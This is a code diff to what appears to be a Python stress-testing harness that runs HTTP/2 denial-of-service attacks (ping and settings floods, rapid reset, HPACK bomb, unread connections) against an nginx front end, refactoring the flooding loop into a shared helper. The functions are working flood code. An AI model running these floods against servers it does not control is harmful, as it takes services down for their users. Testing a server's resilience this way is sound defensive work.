@@ -123,18 +123,20 @@ def large_headers() -> dict:
     return pump(lambda n: frame(HEADERS, END_HEADERS, 1 + 2 * n, headers))
 
 
+A_PING = frame(PING, 0, 0, b"12345678")
+
+
 def ping_flood() -> dict:
-    return pump(frame(PING, 0, 0, b"12345678") * 100)
+    return pump(A_PING * 100)
 
 
 def settings_flood() -> dict:
     return pump(frame(SETTINGS, 0, 0) * 100)
 
 
-def unread(chunk: bytes, connections: int = 4) -> dict:
-    """Sends `chunk` on some connections, and reads none of the answers: each one waits in the server."""
-    end, sent = time.monotonic() + SECONDS, 0
-    kept = [connect(unread=True) for _ in range(connections)]
+def flood(kept: list[http2.Connection], chunk: bytes, end: float) -> int:
+    """Sends `chunk` on all of them until the time `end`, whatever the server does, and closes them. Returns the bytes sent."""
+    sent = 0
     for one in kept:
         one.socket.setblocking(False)
     while time.monotonic() < end:
@@ -143,10 +145,17 @@ def unread(chunk: bytes, connections: int = 4) -> dict:
                 sent += one.socket.send(chunk)
     for one in kept:
         one.close()
-    return {"connections": len(kept), "mib": sent >> 20}
+    return sent
 
 
-PINGS = frame(PING, 0, 0, b"12345678") * 1000
+def unread(chunk: bytes, connections: int = 4) -> dict:
+    """Sends `chunk` on some connections, and reads none of the answers: each one waits in the server."""
+    end = time.monotonic() + SECONDS
+    kept = [connect(unread=True) for _ in range(connections)]
+    return {"connections": len(kept), "mib": flood(kept, chunk, end) >> 20}
+
+
+PINGS = A_PING * 1000
 
 
 def unread_pings() -> dict:
@@ -156,17 +165,14 @@ def unread_pings() -> dict:
 def pings_after_the_end() -> dict:
     """Pings a few at a time, until nginx ends the connections because they carry nothing else. Then a flood, which must not keep
     nginx reading."""
-    end, sent, kept = time.monotonic() + SECONDS, 0, [connect() for _ in range(4)]
-    while time.monotonic() < end:
+    end, kept = time.monotonic() + SECONDS, [connect() for _ in range(4)]
+    while any(one.ended is None for one in kept) and time.monotonic() < end:
         for one in kept:
             with contextlib.suppress(OSError):
-                one.socket.setblocking(one.ended is None)
-                sent += one.socket.send(PINGS[:17 * 100] if one.ended is None else PINGS)
-        time.sleep(0.0002 if any(one.ended is None for one in kept) else 0)
-    for one in kept:
-        one.close()
-    did = {"connections": len(kept), "mib": sent >> 20, "ends": [one.ended for one in kept]}
-    return did | let_through(sent > 200 << 20, "a flood after the end of its connections")
+                one.socket.send(A_PING * 100)
+        time.sleep(0.0002)
+    ends, sent = [one.ended for one in kept], flood(kept, PINGS, end)
+    return {"connections": len(kept), "mib": sent >> 20, "ends": ends} | let_through(sent > 200 << 20, "a flood after the end of its connections")
 
 
 def unread_settings() -> dict:
@@ -401,8 +407,8 @@ def readers_without_a_window_on_one_connection() -> dict:
 
 ATTACKS = {attack.__name__: attack for attack in (
     rapid_reset, rapid_reset_of_sessions, rapid_reset_by_the_server, endless_continuation, endless_field, hpack_bomb,
-    large_headers, ping_flood, unread_pings, pings_after_the_end, settings_flood, unread_settings, window_flips, window_overflow, empty_data_flood,
-    settings_changes, priority_flood, goaway_flood, unknown_frames, frames_out_of_place, other_protocols, odd_requests,
+    large_headers, ping_flood, unread_pings, pings_after_the_end, settings_flood, unread_settings, window_flips, window_overflow,
+    empty_data_flood, settings_changes, priority_flood, goaway_flood, unknown_frames, frames_out_of_place, other_protocols, odd_requests,
     half_headers, silent_connections, open_calls, readers_without_a_window, readers_without_a_window_on_one_connection)}
 # What the front does not withstand: nginx has no limit of connections. These run only by name.
 ATTACKS_THAT_SUCCEED = {"unread_pings_on_60_connections": lambda: unread(PINGS, 60),
